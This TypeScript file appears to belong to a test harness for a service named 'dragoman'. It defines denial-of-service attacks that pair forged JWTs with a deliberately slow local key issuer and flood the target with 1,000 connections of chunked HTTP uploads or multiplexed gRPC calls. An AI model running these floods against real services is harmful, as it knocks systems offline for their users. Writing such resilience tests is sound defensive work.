import { generateKeyPairSync, randomUUID } from "node:crypto";
import { createServer } from "node:http";
import { setTimeout as delay } from "node:timers/promises";
import type { Attack, Target } from "./kit/attack.ts";
import { callFields, FLAG, FRAME, frame, OPENING, SEND_MESSAGE } from "./kit/http2-frames.ts";
import { deadline, hold, openSockets, send } from "./kit/sockets.ts";
import { HONEST_KEY, OTHER_KEY } from "./kit/victim.ts";

const CONNECTIONS = 1_000;
const CALLS = 16;

const config: NonNullable<Attack["config"]> = ({ ownPort }) => ({
  auth: {
    apiKeys: [
      { key: HONEST_KEY, owner: "honest" },
      { key: OTHER_KEY, owner: "other" },
    ],
    jwt: { issuer: "https://issuer.example", audience: "dragoman", jwksUrl: `http://127.0.0.1:${ownPort}/keys` },
  },
});

/** The issuer's keys, late: callers that wait for them are what is attacked. */
async function serveKeys({ ownPort }: Target, lateMs: number): Promise<void> {
  const { publicKey } = generateKeyPairSync("rsa", { modulusLength: 2_048 });
  const keys = JSON.stringify({ keys: [{ ...publicKey.export({ format: "jwk" }), kid: "one", alg: "RS256" }] });
  const server = createServer((_, answer) => {
    setTimeout(() => answer.setHeader("content-type", "application/json").end(keys), lateMs);
  });
  await new Promise<void>((resolve) => server.listen(ownPort, "127.0.0.1", resolve));
}

function forgedToken(): string {
  const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString("base64url");
  const claims = { iss: "https://issuer.example", aud: "dragoman", sub: randomUUID(), exp: 4_000_000_000 };
  return `${encode({ alg: "RS256", kid: "one" })}.${encode(claims)}.${Buffer.alloc(256, 1).toString("base64url")}`;
}

const chunks = (bytes: number, count: number) =>
  Buffer.from(`${bytes.toString(16)}\r\n${" ".repeat(bytes)}\r\n`.repeat(count));

function chunkedAttack(name: string, bytes: number, lateMs: number): Attack {
  return {
    name,
    what: `${CONNECTIONS} connections with forged tokens send chunks of ${bytes} bytes; the issuer takes ${lateMs} ms`,
    config,
    async run(target) {
      await serveKeys(target, lateMs);
      const isOver = deadline(target);
      const piece = chunks(bytes, Math.ceil(60_000 / (bytes + 6)));
      const attack = async () => {
        while (!isOver()) {
          const [socket] = await openSockets(target.httpPort, 1, true);
          if (socket === undefined) continue;
          socket.resume();
          const head = `POST /agents/echo HTTP/1.1\r\nhost: 127.0.0.1\r\nauthorization: Bearer ${forgedToken()}\r\ntransfer-encoding: chunked\r\n\r\n`;
          await send(target, socket, head);
          for (let sent = 0; sent < 20 && !isOver(); sent++) if (!(await send(target, socket, piece))) break;
          socket.destroy();
        }
      };
      await Promise.all(Array.from({ length: CONNECTIONS }, attack));
    },
  };
}

export const forgedTokens: readonly Attack[] = [
  chunkedAttack("forged-token-1024", 1_024, 20),
  chunkedAttack("forged-token-1", 1, 20),
  chunkedAttack("forged-token-slow-issuer", 1_024, 4_000),
  {
    name: "forged-token-calls",
    what: `${CONNECTIONS} gRPC connections open ${CALLS} calls each with forged tokens; the issuer takes 4 s`,
    config,
    async run(target) {
      await serveKeys(target, 4_000);
      const isOver = deadline(target);
      const attack = async () => {
        while (!isOver()) {
          const [socket] = await openSockets(target.grpcPort, 1, true);
          if (socket === undefined) continue;
          socket.resume();
          const fields = callFields(SEND_MESSAGE, { authorization: `Bearer ${forgedToken()}` });
          const calls = Array.from({ length: CALLS }, (_, at) =>
            frame(FRAME.HEADERS, FLAG.END_HEADERS, 1 + 2 * at, fields),
          );
          await send(target, socket, Buffer.concat([OPENING, ...calls]));
          await Promise.race([new Promise((resolve) => socket.once("close", resolve)), delay(2_000)]);
          socket.destroy();
        }
      };
      await Promise.all(Array.from({ length: CONNECTIONS }, attack));
      await hold(isOver);
    },
  },
];
